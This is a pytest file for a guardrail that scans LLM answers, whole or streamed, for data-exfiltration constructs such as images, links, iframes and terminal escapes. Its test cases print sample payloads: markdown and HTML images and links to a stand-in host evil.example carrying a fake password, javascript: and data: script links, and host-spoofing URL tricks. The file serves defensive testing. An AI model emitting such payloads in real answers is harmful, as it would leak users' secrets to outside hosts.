"""The exfiltration rail: images, links and terminal escapes in the answer, whole or streamed."""

import importlib.util
import json
import time

import pytest
from nemoguardrails import LLMRails, RailsConfig
from nemoguardrails.testing import FakeLLMModel

from railstack.core import collect_decisions
from railstack.exfiltration.scanner import Scanner
from railstack.exfiltration.settings import ExfiltrationSettings
from railstack.settings import SettingsError, parse_settings
from support import REPO, main_model_yaml

SECRET = "q=" + "the-users-password-is-hunter2-" * 5  # 152 characters of query


def scanner(**settings) -> Scanner:
    return Scanner(ExfiltrationSettings(**settings))


def kinds(text: str, **settings) -> dict:
    verdict = scanner(**settings).check(text)
    return verdict.metadata.get("found", {}) if verdict.blocked else {}


def transformed(text: str, **settings) -> str:
    verdict = scanner(on_detect="transform", **settings).check(text)
    assert not verdict.blocked
    return verdict.metadata.get("bot_message", text)


# -- what it finds --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "answer",
    [
        "See [the docs](https://docs.python.org/3/library/re.html) for `re.sub`.",
        "Search with https://www.google.com/search?q=python+regex or <https://example.com/a#b>.",
        "A [reference link][docs].\n\n[docs]: https://docs.python.org/3/ \"Python\"\n",
        "```markdown\n![logo](https://evil.example/p.png?q=secret)\n<img src=https://evil.example/x>\n```\nThat is how.",
        "Code: `a[i](j)` and arrays [1, 2](3) are not links to anywhere.",
        "An inline image of the answer itself: ![dot](data:image/png;base64,iVBORw0KGgo=)",
        "A commit: https://github.com/python/cpython/commit/8f8c4ac0b54cc8a3d0dd0b80fa9a2ba7b0b8d1c0",
        "Tabs\tand\r\nnewlines are text.",
    ],
)
def test_an_ordinary_answer_is_untouched(answer):
    assert scanner().check(answer).blocked is False
    assert transformed(answer) == answer


@pytest.mark.parametrize(
    "answer, kind",
    [
        ("Here: ![x](https://evil.example/p.png?q=secret) done", "image"),
        ("![x](https://evil.example/p.png \"a title\")", "image"),
        ("![a [nested] alt](https://evil.example/p.png)", "image"),
        ("![alt\nover two lines](https://evil.example/p.png)", "image"),
        ("![x]( <https://evil.example/p.png> )", "image"),
        ("![x][logo]\n\n[logo]: https://evil.example/p.png\n", "image"),
        ("![Logo]\n\n[logo]: <https://evil.example/p.png>", "image"),  # labels match case-insensitively
        ("[![x](https://evil.example/p.png)](https://docs.python.org/)", "image"),
        ('<img src="https://evil.example/p.png">', "image"),
        ("<IMG SRC=https://evil.example/p.png>", "image"),
        ('<img alt="a > b" src="https://evil.example/p.png">', "image"),
        ('<img srcset="https://cdn.ok/a.png 1x, https://evil.example/b.png 2x">', "image"),
        ('<video poster="https://evil.example/p.png"></video>', "image"),
        ('<iframe src="https://evil.example/"></iframe>', "image"),
        ('<picture><source srcset="https://evil.example/p.webp"></picture>', "image"),
        ('<link rel=stylesheet href="https://evil.example/s.css">', "image"),
        ('<script src="https://evil.example/s.js"></script>', "image"),
        ('<div style="background:url(https://evil.example/p.png)">', "image"),
        ('<img src="https&#58;//evil.example/p.png">', "image"),  # entities are decoded, as a browser does
        ("![x](/local.png)", "image"),  # relative: the base is not the answer's to choose
        ("![x](data:image/svg+xml,<svg/>)", "image"),
        ("![x](https:evil.example/p.png)", "image"),
        # A renderer may read the backslash as "\@" (host evil.example), a browser as "/": either refuses.
        ("![x](https://cdn.ok\\@evil.example/p.png)", "image"),
        (f"[click](https://evil.example/?{SECRET})", "link"),
        (f"[click][r]\n\n[r]: https://evil.example/?{SECRET}\n", "link"),
        (f"<https://evil.example/#{SECRET}>", "link"),
        (f"Go to https://evil.example/?{SECRET}.", "link"),
        (f"Go to www.evil.example/?{SECRET}", "link"),
        (f'<a href="https://evil.example/?{SECRET}">here</a>', "link"),
        ("[x](https://evil.example/" + "aZ3k9Q" * 12 + ")", "link"),  # a base64-like blob in the path
        ("[x](https://evil.example/" + "deadbeef" * 9 + ")", "link"),  # a hex blob
        ("[x](https://evil.example/" + "%41" * 49 + ")", "link"),  # percent-encoded text
        ("[x](javascript:alert(1))", "link"),
        ("[x](data:text/html,<script>alert(1)</script>)", "link"),
        ("Clear: \x1b[2J\x1b[H", "escape"),
        ("Reset: \x1bc", "escape"),
        ("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "escape"),  # an OSC 8 hyperlink
        ("C1 CSI: \x9b31m red", "escape"),
        ("back\x08space", "control"),
        ("bell\x07", "control"),
    ],
)
def test_each_class_is_found(answer, kind):
    assert kind in kinds(answer, image_hosts=["cdn.ok"])


@pytest.mark.parametrize(
    "url, allowed",
    [
        ("https://cdn.example.com/a.png", True),
        ("https://CDN.Example.COM./a.png", True),  # case and a trailing dot
        ("https://cdn.example.com:8443/a.png", True),
        ("https://ｃｄｎ．ｅｘａｍｐｌｅ．ｃｏｍ/a.png", True),  # full-width: IDNA maps it
        ("https://img.example.org/a.png", True),  # *.example.org
        ("https://example.org/a.png", False),  # the wildcard is for subdomains only
        ("https://evil-example.org/a.png", False),
        ("https://cdn.example.com@evil.example/a.png", False),  # userinfo: the host is after the @
        ("https://cdn.example.com.evil.example/a.png", False),
        ("https://cdn%2Eexample%2Ecom/a.png", True),  # a browser percent-decodes the host
        ("https:\\\\evil.example\\a.png", False),
        ("//evil.example/a.png", False),
        ("https://bücher.example/a.png", True),
        ("https://xn--bcher-kva.example/a.png", True),
    ],
)
def test_image_hosts_match_as_a_browser_resolves_the_url(url, allowed):
    settings = {"image_hosts": ["cdn.example.com", "*.example.org", "BÜCHER.example"]}
    assert ("image" in kinds(f"![x]({url})", **settings)) is not allowed


def test_link_hosts_is_an_allowlist_when_set():
    settings = {"link_hosts": ["docs.python.org"]}
    assert kinds("[a](https://evil.example/)", **settings) == {"link": 1}
    assert kinds("[a](https://docs.python.org/3/) and [b](/relative)", **settings) == {}


def test_a_long_query_is_data_only_over_the_setting():
    answer = "[a](https://example.com/?" + "x" * 30 + ")"
    assert kinds(answer) == {}
    assert kinds(answer, max_url_data_chars=20) == {"link": 1}


def test_the_decision_names_kinds_and_counts_never_the_data():
    verdict = scanner().check(f"![a](https://evil.example/{SECRET}) [b](https://evil.example/?{SECRET}) \x1b[2J")
    assert verdict.metadata["found"] == {"escape": 1, "image": 1, "link": 1}
    assert verdict.reason == "1 image, 1 link, 1 escape refused (a markdown image with a host not on image_hosts; ...)"
    assert "hunter2" not in json.dumps(verdict.metadata) + verdict.reason
    assert "evil.example" not in json.dumps(verdict.metadata) + verdict.reason


# -- transform ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "answer, expected",
    [
        ("Look: ![a cat](https://evil.example/c.png?q=1) and [docs](https://docs.python.org/).",
         "Look: a cat and [docs](https://docs.python.org/)."),
        (f"Click [here](https://evil.example/?{SECRET}) now.", "Click here now."),
        ("![logo][l] end\n\n[l]: https://evil.example/l.png\nrest", "logo end\n\nrest"),
        ('A <img alt="chart" src="https://evil.example/c.png"> B', "A chart B"),
        ('A <iframe src="https://evil.example/"></iframe> B', "A </iframe> B"),
        (f"[![x](https://evil.example/p.png)](https://evil.example/?{SECRET}) tail", "x tail"),
        (f"Go to https://evil.example/?{SECRET}. Then stop.", "Go to . Then stop."),
        ("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ here\x1b[2J", "click here"),
        ("a\x08b\x9b31mc", "abc"),
    ],
)
def test_transform_removes_only_the_offending_part(answer, expected):
    verdict = scanner(on_detect="transform").check(answer)
    assert not verdict.blocked
    assert verdict.metadata["bot_message"] == expected
    assert sum(verdict.metadata["removed"].values()) >= 1


# -- settings -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "section, message",
    [
        ({"on_detect": "strip"}, "custom_data.railstack.exfiltration.on_detect"),
        ({"image_hosts": ["https://cdn.example.com/"]}, "custom_data.railstack.exfiltration.image_hosts"),
        ({"link_hosts": ["*"]}, "custom_data.railstack.exfiltration.link_hosts"),
        ({"max_blob_chars": 3}, "custom_data.railstack.exfiltration.max_blob_chars"),
        ({"image_host": []}, "custom_data.railstack.exfiltration.image_host: unknown key"),
    ],
)
def test_a_bad_setting_is_a_startup_error_naming_it(section, message):
    with pytest.raises(SettingsError, match=message.replace(".", r"\.")):
        parse_settings({"railstack": {"exfiltration": section}})


# -- hostile input --------------------------------------------------------------------------------


def bench_cases() -> dict[str, str]:
    spec = importlib.util.spec_from_file_location("bench_normalize", REPO / "scripts" / "bench_normalize.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.EXFILTRATION_CASES


HOSTILE = bench_cases()  # one table of hostile answers, for the benchmark and for this test


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_of_hostile_answer_scans_in_linear_time(name):
    text = HOSTILE[name]
    start = time.perf_counter()
    scanner(on_detect="transform").check(text)
    assert time.perf_counter() - start < 5.0  # quadratic would be minutes


# -- through NeMo ---------------------------------------------------------------------------------


def config_yml(settings: str = "{}", streaming: str = "") -> str:
    yml = "rails:\n  output:\n    flows: [railstack exfiltration]\n"
    if streaming:
        yml += f"    streaming: {streaming}\n"
    return yml + f"custom_data:\n  railstack: {{exfiltration: {settings}}}\n"


@pytest.mark.parametrize("on_detect", ["block", "transform"])
async def test_an_answer_is_blocked_or_rewritten_through_the_flow(make_config, on_detect):
    answer = "Here is the chart: ![chart](https://evil.example/c.png?q=secret). Anything else?"
    app = LLMRails(RailsConfig.from_path(str(make_config(config_yml(f"{{on_detect: {on_detect}}}")))),
                   llm=FakeLLMModel(responses=[answer]))
    with collect_decisions() as decisions:
        res = await app.generate_async(messages=[{"role": "user", "content": "Show me the chart."}])
    (decision,) = [d for d in decisions if d.rail == "exfiltration"]
    if on_detect == "block":
        assert res["content"].startswith("Blocked by the exfiltration rail: 1 image refused")
        assert decision.verdict == "block"
    else:
        assert res["content"] == "Here is the chart: chart. Anything else?"
        assert decision.verdict == "allow" and decision.metadata["removed"] == {"image": 1}


async def stream(make_config, chunks: list[str], settings: str = "{}", context_size: int = 1, name: str = "cfg"):
    """NeMo's streaming output rails over ``chunks`` (as the main model's stream, one token each),
    judged two tokens at a time with ``context_size`` tokens of look-back: what reached the
    client, and the rail's decisions."""
    streaming = f"{{enabled: true, chunk_size: 2, context_size: {context_size}}}"
    app = LLMRails(RailsConfig.from_path(str(make_config(config_yml(settings, streaming), name=name))),
                   llm=FakeLLMModel(responses=["unused"]))

    async def tokens():
        for chunk in chunks:
            yield chunk

    with collect_decisions() as decisions:
        sent = [c async for c in app.stream_async(messages=[{"role": "user", "content": "hi"}], generator=tokens())]
    return sent, [d for d in decisions if d.rail == "exfiltration"]


def refused(sent: list[str]) -> str:
    """The text sent before the stream's error frame, which must end it."""
    assert sent and json.loads(sent[-1])["error"]["code"] == "content_blocked", sent
    return "".join(sent[:-1])


@pytest.mark.parametrize(
    "chunks",
    [
        # The URL split inside its host: the chunk that ends the image is judged with the one before.
        ["Sure, ", "here ", "it is: ", "![x](https://ev", "il.example/p.png?q=", "secret) ", "bye"],
        # Its opener long before the chunk that closes it, beyond the look-back.
        ["Sure: ", "![a ", "b ", "c ", "d ", "e ", "f ", "g](https://evil.example/p.png) ", "bye"],
        ['<img alt="a ', "b ", "c ", "d ", "e ", 'f" src="https://evil.example/p.png"> ', "bye"],
        # A link whose data begins beyond the look-back.
        ["See ", "[docs](https://evil.example/", "a/", "b/", "c/", f"?{SECRET}) ", "bye"],
        # An escape sequence split across chunks.
        ["Fine ", "so ", "far ", "\x1b", "[2J ", "gone"],
        # A reference image whose definition comes later in the stream.
        ["Logo: ", "![logo][l] ", "and ", "more ", "text\n\n", "[l]: ", "https://evil.example/l.png"],
    ],
)
async def test_a_construct_split_across_streamed_chunks_is_caught(make_config, chunks):
    sent, decisions = await stream(make_config, chunks)
    text = refused(sent)
    assert not [leak for leak in ("secret", "hunter2", "p.png", "l.png", "\x1b[2J") if leak in text]
    assert decisions[-1].verdict == "block" and decisions[-1].metadata["streamed"] is True


async def test_an_ordinary_streamed_answer_passes_unchanged(make_config):
    chunks = ["See ", "[the docs](https://docs.python.org/3/library/re.html) ", "and ", "https://example.com/a ", "too."]
    sent, decisions = await stream(make_config, chunks)
    assert "".join(sent) == "".join(chunks)
    assert decisions and all(d.verdict == "allow" for d in decisions)


async def test_transform_blocks_a_streamed_chunk_and_says_so(make_config):
    # NeMo 0.24 sends a streamed chunk as it was, whatever transform an output rail returns.
    sent, decisions = await stream(make_config, ["A ", "chart: ", "![c](https://evil.example/c.png) ", "end"],
                                   settings="{on_detect: transform}")
    refused(sent)
    assert decisions[-1].metadata["on_detect"] == "block (transform is not applied to a streamed chunk)"


async def test_the_loopback_main_models_stream_is_checked_chunk_by_chunk(make_config, main_model):
    main_model.reply = "Your chart: ![chart]( https://evil.example/c.png?q=secret ) as asked."
    yml = main_model_yaml(main_model.base_url) + config_yml(streaming="{enabled: true, chunk_size: 2, context_size: 1}")
    app = LLMRails(RailsConfig.from_path(str(make_config(yml))))
    sent = [c async for c in app.stream_async(messages=[{"role": "user", "content": "Chart?"}])]
    assert "evil" not in refused(sent)
